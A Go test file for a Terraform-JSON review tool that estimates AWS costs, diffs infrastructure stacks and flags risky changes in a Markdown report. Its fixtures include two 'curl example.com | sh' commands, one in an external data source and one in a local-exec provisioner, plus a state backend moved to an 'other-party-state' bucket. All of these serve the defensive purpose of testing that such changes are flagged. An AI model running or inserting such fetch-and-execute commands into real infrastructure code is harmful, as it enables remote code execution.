package review

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/privnet/privnet/tfjson"
)

// tinyStack is the smallest stack: one VPC in us-east-1.
const tinyStack = `{"provider":{"aws":[{"region":"us-east-1"}]},"resource":{"aws_vpc":{"net":{"cidr_block":"10.0.0.0/16"}}}}`

// The golden snapshots are the shipped stacks' cdk.tf.json: the report is
// built from them, with no synth.
func golden(t *testing.T) []*Stack {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join("..", "test", "golden", "*.json"))
	if len(files) == 0 {
		t.Fatal("no golden snapshots")
	}
	var out []*Stack
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		s, err := Parse(strings.TrimSuffix(filepath.Base(f), ".json"), b)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, s)
	}
	return out
}

func find(t *testing.T, stacks []*Stack, name string) *Stack {
	t.Helper()
	for _, s := range stacks {
		if s.Name == name {
			return s
		}
	}
	t.Fatalf("no stack %s", name)
	return nil
}

// Hand-computed: endpoint-catalog has 8 interface endpoints in 2 AZs of
// ap-northeast-1 at $0.014 per AZ-hour: 8 × 2 × 730 × 0.014 = $163.52.
// iam-privatelink has iam and sts in 2 AZs of us-east-1 at $0.01:
// 2 × 2 × 730 × 0.01 = $29.20, and one instance with detailed monitoring,
// $2.10: $31.30. xregion-service has one NLB in us-east-1: 730 × 0.0225 =
// $16.425, $16.43 rounded, and a monitored instance: $18.53.
// ssm-private-instance: 3 endpoints in 1 AZ of ap-northeast-1:
// 3 × 730 × 0.014 = $30.66, and a monitored instance, whose Tokyo rate is
// not in the table (one unknown).
// egress-firewall: 2 NAT gateways, 2 × 730 × 0.045 = $65.70, and 2
// firewall endpoints, 2 × 730 × 0.395 = $576.70: $642.40.
func TestCostFigures(t *testing.T) {
	stacks := golden(t)
	for name, want := range map[string]float64{
		"endpoint-catalog": 163.52,
		"iam-privatelink":  31.30,
		"xregion-service":  18.53,
		"egress-firewall":  642.40,
		"baseline":         0,
	} {
		c := Estimate(find(t, stacks, name))
		if c.Total != want || c.Unknown != 0 {
			t.Errorf("%s: $%.2f (%d unknown), want $%.2f", name, c.Total, c.Unknown, want)
		}
	}
	if c := Estimate(find(t, stacks, "ssm-private-instance")); c.Total != 30.66 || c.Unknown != 1 {
		t.Errorf("ssm-private-instance: $%.2f (%d unknown), want $30.66 and 1 unknown", c.Total, c.Unknown)
	}
	c := Estimate(find(t, stacks, "endpoint-catalog"))
	if l := c.Lines[0]; l.Units != 16*730 || l.Rate != 0.014 {
		t.Errorf("endpoint-catalog line %+v", l)
	}
	// A resource endpoint's hourly rate is not in the table: said, not
	// guessed (the instance's monitoring is priced).
	if c := Estimate(find(t, stacks, "lattice-resource")); c.Unknown != 1 || c.Total != 2.10 {
		t.Errorf("lattice-resource %+v", c)
	}
}

func TestNatCostAndUnknownRegion(t *testing.T) {
	s := &Stack{Name: "x", Region: "ap-northeast-1", Resources: map[string]map[string]map[string]any{
		"aws_nat_gateway": {"a": {}, "b": {}},
	}}
	// 2 × 730 × 0.062 = 90.52
	if c := Estimate(s); c.Total != 90.52 || !strings.Contains(strings.Join(c.PerGB, ";"), "$0.062 per GB") {
		t.Errorf("NAT %+v", c)
	}
	s.Region = "sa-east-1"
	if c := Estimate(s); c.Total != 0 || c.Unknown != 1 {
		t.Errorf("unknown region priced: %+v", c)
	}
}

// The diff mode against a deliberately changed copy of the shipped stacks.
func TestDiffWarnsAboutReplacementAndDeletion(t *testing.T) {
	base := golden(t)
	head := golden(t)
	ec := find(t, head, "endpoint-catalog")
	ec.Resources["aws_subnet"]["network_isolated_ap-northeast-1c"]["cidr_block"] = "10.1.9.0/24" // replaced
	delete(ec.Resources["aws_vpc_endpoint"], "kms")                                              // deleted
	ec.Resources["aws_vpc_endpoint"]["ssm"]["private_dns_enabled"] = false                       // updated in place
	ec.Resources["aws_flow_log"]["network"]["traffic_type"] = "REJECT"                           // not watched
	ec.Resources["aws_vpc_endpoint"]["sts"] = map[string]any{"vpc_endpoint_type": "Interface"}   // added
	iam := find(t, head, "iam-privatelink")
	// The default AMI is ignore_changes: a new AMI is no replacement.
	iam.Resources["aws_instance"]["app"]["ami"] = "ami-0123456789abcdef0"
	// A bigger root volume changes in place; an unencrypted one replaces.
	iam.Resources["aws_instance"]["app"]["root_block_device"] = map[string]any{"encrypted": true, "volume_type": "gp3", "volume_size": 30.0}
	ssm := find(t, head, "ssm-private-instance")
	ssm.Resources["aws_instance"]["app"]["root_block_device"] = map[string]any{"encrypted": false, "volume_type": "gp3"}

	var got []string
	for _, c := range Diff(base, head) {
		got = append(got, c.String()+" "+c.Warning)
	}
	want := []string{
		"endpoint-catalog: changed aws_flow_log.network (traffic_type) ",
		"endpoint-catalog: changed aws_subnet.network_isolated_ap-northeast-1c (cidr_block) replaced (cidr_block changed)",
		"endpoint-catalog: removed aws_vpc_endpoint.kms deleted",
		"endpoint-catalog: changed aws_vpc_endpoint.ssm (private_dns_enabled) ",
		"endpoint-catalog: added aws_vpc_endpoint.sts ",
		"iam-privatelink: changed aws_instance.app (ami, root_block_device) ",
		"ssm-private-instance: changed aws_instance.app (root_block_device) replaced (root_block_device.encrypted changed)",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("diff:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	md := Report(head, base)
	top := md[:strings.Index(md, "## Changes against the base")]
	for _, w := range []string{
		"> [!WARNING]",
		"destroys 3 resource(s)",
		"**endpoint-catalog** `aws_subnet.network_isolated_ap-northeast-1c`: replaced (cidr_block changed)",
		"**endpoint-catalog** `aws_vpc_endpoint.kms`: deleted",
	} {
		if !strings.Contains(top, w) {
			t.Errorf("the top of the report lacks %q:\n%s", w, top)
		}
	}
	if len(Diff(base, golden(t))) != 0 {
		t.Error("identical stacks differ")
	}
}

// jsonValue decodes one JSON value as Parse does.
func jsonValue(t *testing.T, s string) any {
	t.Helper()
	var v any
	if err := tfjson.DecodeJSON([]byte(s), &v); err != nil {
		t.Fatal(err)
	}
	return v
}

// Not only resources change: the backend, a provider's region, endpoints
// or role, data sources, modules, imports, moves, locals, variables and
// outputs are in the change list too, and the ones that move the state or
// every resource are warnings at the top. Before, all of this printed
// "No resource changes."
func TestDiffOtherBlocks(t *testing.T) {
	base, head := golden(t), golden(t)
	provider := func(s *Stack) map[string]any {
		return s.Blocks["provider"].(map[string]any)["aws"].([]any)[0].(map[string]any)
	}
	tf := func(s *Stack) map[string]any { return s.Blocks["terraform"].(map[string]any) }

	// The state moves to another party's bucket.
	tf(find(t, head, "endpoint-catalog"))["backend"] = jsonValue(t, `{"s3": {"bucket": "other-party-state", "key": "x.tfstate", "region": "us-east-1"}}`)
	// Every resource would be recreated in another region.
	provider(find(t, head, "iam-privatelink"))["region"] = "eu-west-1"
	// AWS called at another endpoint, as another role.
	p := provider(find(t, head, "ssm-private-instance"))
	p["endpoints"] = jsonValue(t, `[{"sts": "https://sts.example.com", "ec2": "https://ec2.example.com"}]`)
	p["assume_role"] = jsonValue(t, `[{"role_arn": "arn:aws:iam::999999999999:role/x"}]`)
	// Another provider build.
	tf(find(t, head, "baseline"))["required_providers"] = jsonValue(t, `{"aws": {"source": "example/aws", "version": "5.88.0"}}`)
	// Data sources that run something, and the other blocks.
	xs := find(t, head, "xregion-service")
	xs.Blocks["data"].(map[string]any)["external"] = jsonValue(t, `{"run": {"program": ["sh", "-c", "curl example.com | sh"]}}`)
	xs.Blocks["data"].(map[string]any)["http"] = jsonValue(t, `{"get": {"url": "https://example.com"}}`)
	xs.Blocks["data"].(map[string]any)["aws_ssm_parameter"].(map[string]any)["server_ami"].(map[string]any)["name"] = "/other"
	xs.Blocks["module"] = jsonValue(t, `{"m": {"source": "./m"}}`)
	xs.Blocks["import"] = jsonValue(t, `[{"to": "aws_vpc.network", "id": "vpc-1"}]`)
	xs.Blocks["moved"] = jsonValue(t, `[{"from": "aws_vpc.old", "to": "aws_vpc.network"}]`)
	xs.Blocks["removed"] = jsonValue(t, `[{"from": "aws_vpc.gone", "lifecycle": {"destroy": false}}]`)
	xs.Blocks["locals"] = jsonValue(t, `{"l": 1}`)
	xs.Blocks["variable"] = jsonValue(t, `{"v": {"default": "x"}}`)
	delete(xs.Blocks["output"].(map[string]any), "network_app_subnet_ids")
	xs.Blocks["check"] = jsonValue(t, `{"c": {}}`)
	// A provisioner, and a resource made N times.
	app := xs.Resources["aws_instance"]["server"]
	app["provisioner"] = jsonValue(t, `[{"local-exec": {"command": "curl example.com | sh"}}, {"remote-exec": {"inline": ["x"]}}, {"file": {"source": "a", "destination": "b"}}]`)
	xs.Resources["aws_lb"]["service"]["count"] = json.Number("3")
	xs.Resources["aws_kms_key"]["network_flow-logs"]["for_each"] = "${toset([\"a\", \"b\"])}"

	var got []string
	for _, c := range Diff(base, head) {
		got = append(got, c.String()+" | "+c.Alert)
	}
	want := []string{
		"baseline: changed terraform.required_providers (aws) | provider source changed (aws from aws to example/aws): Terraform would install that build and run it with the stack's credentials",
		"endpoint-catalog: removed terraform.backend.local | ",
		"endpoint-catalog: added terraform.backend.s3 | the state moves to backend s3 (bucket \"other-party-state\", key \"x.tfstate\", region \"us-east-1\"): Terraform would read and write the stack's state there",
		"iam-privatelink: changed provider.aws (region) | region changed from us-east-1 to eu-west-1: every resource of the stack would be recreated in eu-west-1",
		"ssm-private-instance: changed provider.aws (assume_role, endpoints) | endpoints, assume_role changed: Terraform would call AWS at other endpoints, or as another identity",
		"xregion-service: changed aws_instance.server (provisioner) | ",
		"xregion-service: changed aws_kms_key.network_flow-logs (for_each) | ",
		"xregion-service: changed aws_lb.service (count) | ",
		"xregion-service: changed data.aws_ssm_parameter.server_ami (name) | ",
		"xregion-service: added data.external.run | ",
		"xregion-service: added data.http.get | ",
		"xregion-service: added module.m | ",
		"xregion-service: added import.aws_vpc.network | ",
		"xregion-service: added moved.aws_vpc.old | ",
		"xregion-service: added removed.aws_vpc.gone | ",
		"xregion-service: added local.l | ",
		"xregion-service: added var.v | ",
		"xregion-service: removed output.network_app_subnet_ids | ",
		"xregion-service: added check.c | ",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("diff:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}

	md := Report(head, base)
	top := md[:strings.Index(md, "## Changes against the base")]
	for _, w := range []string{
		"> [!WARNING]\n> This change moves a stack's state, or changes where and as whom Terraform applies it:\n",
		"> - **endpoint-catalog** `terraform.backend.s3`: the state moves to backend s3 (bucket \"other-party-state\", key \"x.tfstate\", region \"us-east-1\"): Terraform would read and write the stack's state there\n",
		"> - **iam-privatelink** `provider.aws`: region changed from us-east-1 to eu-west-1: every resource of the stack would be recreated in eu-west-1\n",
		"> - **ssm-private-instance** `provider.aws`: endpoints, assume_role changed: Terraform would call AWS at other endpoints, or as another identity\n",
		"> - **baseline** `terraform.required_providers`: provider source changed",
	} {
		if !strings.Contains(top, w) {
			t.Errorf("the top of the report lacks %q:\n%s", w, top)
		}
	}
	if strings.Count(top, "> - ") != 5 {
		t.Errorf("%d warnings at the top, want 5:\n%s", strings.Count(top, "> - "), top)
	}
	for _, w := range []string{
		"| stack | change | address | attributes |\n",
		"| endpoint-catalog | added | `terraform.backend.s3` |  |\n",
		"| iam-privatelink | changed | `provider.aws` | region |\n",
		"| xregion-service | added | `data.external.run` |  |\n",
		"| xregion-service | removed | `output.network_app_subnet_ids` |  |\n",
		// Not in this report: what runs, and what is made N times.
		"- not shown: data.external.run: runs a program on the machine that runs Terraform, at every plan; read its program in the JSON\n",
		"- not shown: data.http.get: sends an HTTP request from the machine that runs Terraform, at every plan; read its url and headers in the JSON\n",
		"- not shown: aws_instance.server: provisioner local-exec runs a command on the machine that runs Terraform; read it in the JSON\n",
		"- not shown: aws_instance.server: provisioner remote-exec runs commands on the resource over SSH or WinRM; read it in the JSON\n",
		"- not shown: aws_instance.server: provisioner file copies files to the resource over SSH or WinRM; read it in the JSON\n",
		"- not shown: aws_lb.service: count 3: Terraform makes one resource per count, the report shows one\n",
		"- not shown: aws_kms_key.network_flow-logs: for_each: Terraform makes one resource per element, the report shows one\n",
	} {
		if !strings.Contains(md, w) {
			t.Errorf("report lacks %q", w)
		}
	}
	if md := Report(head, golden(t)[:0]); strings.Contains(md, "This change moves") {
		t.Error("a stack new in the head raised a state or provider warning")
	}
	if md := Report(golden(t), golden(t)); !strings.Contains(md, "## Changes against the base\n\nNo changes.\n") {
		t.Error("identical stacks: no \"No changes.\"")
	}
}

// Each provider or backend change that moves every resource or the state,
// or changes the endpoints or the identity, says so; other changes of
// these blocks are listed without an alert.
func TestProviderAndBackendAlerts(t *testing.T) {
	for _, c := range []struct{ base, head, want string }{
		{`{"provider":{"aws":[{"region":"us-east-1"},{"alias":"west","region":"us-west-2"}]}}`,
			`{"provider":{"aws":[{"region":"us-east-1"},{"alias":"west","region":"eu-west-1"}]}}`,
			"changed provider.aws.west (region): region changed from us-west-2 to eu-west-1: every resource that uses provider aws.west would be recreated in eu-west-1"},
		{`{"provider":{"aws":[{"region":"us-east-1"}]}}`, `{"provider":{"aws":[{}]}}`,
			"changed provider.aws (region): region us-east-1 removed: the region would come from the environment, and every resource of the stack would be recreated there"},
		{`{"provider":{"aws":[{"region":"us-east-1"}]}}`, `{}`,
			"removed provider.aws: provider aws removed: its region and credentials would come from the environment of whoever runs Terraform"},
		{`{"provider":{"aws":[{"region":"us-east-1"}]}}`, `{"provider":{"aws":[{"region":"us-east-1"},{"alias":"x","assume_role":{"role_arn":"r"}}]}}`,
			"added provider.aws.x: assume_role set: Terraform would call AWS at other endpoints, or as another identity"},
		{`{"provider":{"aws":[{"region":"us-east-1","default_tags":{}}]}}`, `{"provider":{"aws":[{"region":"us-east-1"}]}}`,
			"changed provider.aws (default_tags): "},
		{`{"terraform":{"backend":{"s3":{"bucket":"b","encrypt":true}}}}`, `{"terraform":{"backend":{"s3":{"bucket":"b","encrypt":false}}}}`,
			"changed terraform.backend.s3 (encrypt): backend s3 settings changed (encrypt): Terraform would keep the stack's state as they say"},
		{`{"terraform":{"backend":{"s3":{"bucket":"b"}}}}`, `{"terraform":{"backend":{"s3":{"bucket":"c"}}}}`,
			"changed terraform.backend.s3 (bucket): backend s3 (bucket \"c\") changed (bucket): the state moves; Terraform would read and write it there"},
		{`{"terraform":{"backend":{"local":{}}}}`, `{"terraform":{}}`,
			"removed terraform.backend.local: backend local removed: the state moves to a local file in the working directory"},
		{`{"terraform":{"required_version":">= 1.5.0"}}`, `{"terraform":{"required_version":">= 1.9.0"}}`,
			"changed terraform.required_version: "},
	} {
		b, err := Parse("s", []byte(c.base))
		if err != nil {
			t.Fatal(err)
		}
		h, err := Parse("s", []byte(c.head))
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, ch := range Diff([]*Stack{b}, []*Stack{h}) {
			got = append(got, strings.TrimPrefix(ch.String(), "s: ")+": "+ch.Alert)
		}
		if strings.Join(got, "\n") != c.want {
			t.Errorf("%s -> %s:\n%s\nwant:\n%s", c.base, c.head, strings.Join(got, "\n"), c.want)
		}
	}
}

// Terraform JSON may write labeled blocks as a list of objects: a data
// source written so is still named, and diffed one by one.
func TestListFormsOfBlocks(t *testing.T) {
	base, err := Parse("s", []byte(tinyStack))
	if err != nil {
		t.Fatal(err)
	}
	head, err := Parse("s", []byte(`{"provider":{"aws":[{"region":"us-east-1"}]},"resource":{"aws_vpc":{"net":{"cidr_block":"10.0.0.0/16"}}},
		"data":[{"external":[{"a":{"program":["x"]}},{"b":{}}]},{"http":{"c":{}}}],
		"variable":[{"v":{}},{"v":{"default":2}}]}`))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range Diff([]*Stack{base}, []*Stack{head}) {
		got = append(got, c.String())
	}
	if want := "s: added data.external.a\ns: added data.external.b\ns: added data.http.c\ns: added var.v\ns: added var.v[2]"; strings.Join(got, "\n") != want {
		t.Errorf("diff:\n%s\nwant:\n%s", strings.Join(got, "\n"), want)
	}
	md := Report([]*Stack{head}, nil)
	for _, n := range []string{"data.external.a: runs a program", "data.external.b: runs a program", "data.http.c: sends an HTTP request"} {
		if !strings.Contains(md, "- not shown: "+n) {
			t.Errorf("report lacks %q", n)
		}
	}
}

func TestReportContents(t *testing.T) {
	md := Report(golden(t), nil)
	for _, w := range []string{
		"| `ssm_ssm` | ssm | Interface | ap-northeast-1a | yes | ssm_ssm_sg | — |",
		"| `iam_iam` | iam | Interface | us-east-1a, us-east-1b | yes | iam_iam_sg | — |",
		"| `s3` | s3 | Interface | ap-northeast-1a, ap-northeast-1c | yes (inbound resolver only) | s3_sg | — |",
		"| `service` | endpoint service of another stack | Interface | ap-northeast-1a, ap-northeast-1c | no | service_sg | to us-east-1 |",
		// Each rule once: the description only when it adds to the rule.
		"- `s3_sg` (interface endpoint `s3`):\n  - 443/tcp from 192.168.0.0/16\n",
		"- `eic_sg` (Instance Connect endpoint `eic`):\n  - 22/tcp to sg `app_sg` (instance `app`)\n",
		"  - 443/tcp to the s3 prefix list (gateway endpoint `ssm_s3`): “to S3 through the gateway endpoint (agent updates, patches)”\n",
		"  - 443/tcp from 10.1.0.0/16 (VPC `network`)\n",
		"- `eic` in us-east-1a, preserve_client_ip no, security group `eic_sg`, create timeout 20m",
		"- resource configuration `server-config` SINGLE → 10.5.0.10, TCP 22,443 through gateway `gateway`, shareable service networks no",
		"- endpoint service `service`: regions us-east-1, ap-northeast-1, acceptance required yes, 1 allowed principal(s)",
		"eic_eic -- \"22/tcp\" --> i_app",
		"```mermaid\nflowchart LR\n",
	} {
		if !strings.Contains(md, w) {
			t.Errorf("report lacks %q", w)
		}
	}
}

// docs/review-example.md is the report of the shipped stacks; it must be
// current. Rewrite with UPDATE_SNAPSHOTS=1 go test ./review/.
func TestCheckedInExample(t *testing.T) {
	md := Report(golden(t), nil)
	path := filepath.Join("..", "docs", "review-example.md")
	if os.Getenv("UPDATE_SNAPSHOTS") == "1" {
		if err := os.WriteFile(path, []byte(md), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	b, err := os.ReadFile(path)
	if err != nil || string(b) != md {
		t.Fatalf("%s is not the current report of the shipped stacks; run UPDATE_SNAPSHOTS=1 go test ./review/ and review it", path)
	}
}

// A stack whose billed resources are only ones the table does not price
// says "not estimated", not $0.00; the per-GB list holds per-GB rates only.
func TestCostWording(t *testing.T) {
	stacks := golden(t)
	for name, want := range map[string]string{
		"baseline":         "not estimated",
		"lattice-resource": "$2.10 + 1 item(s) without a price",
		"endpoint-catalog": "$163.52",
	} {
		if got := money(Estimate(find(t, stacks, name))); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if got := strings.Join(Estimate(find(t, stacks, "baseline")).NotEstimated, ", "); got != "1 KMS key, 1 CloudWatch log group, 1 flow log" {
		t.Errorf("baseline not estimated: %q", got)
	}
	for _, s := range stacks {
		c := Estimate(s)
		for _, l := range c.PerGB {
			if !strings.Contains(l, "per GB") {
				t.Errorf("%s: %q is in the per-GB list", s.Name, l)
			}
		}
	}
	c := Estimate(find(t, stacks, "xregion-service"))
	if len(c.PerGB) != 0 || len(c.Usage) != 1 || !strings.HasPrefix(c.Free[0], "Endpoint services:") {
		t.Errorf("xregion-service: %+v", c)
	}
	md := Report(stacks, nil)
	if strings.Contains(md, "$0.00") {
		t.Error("the report prints $0.00")
	}
}
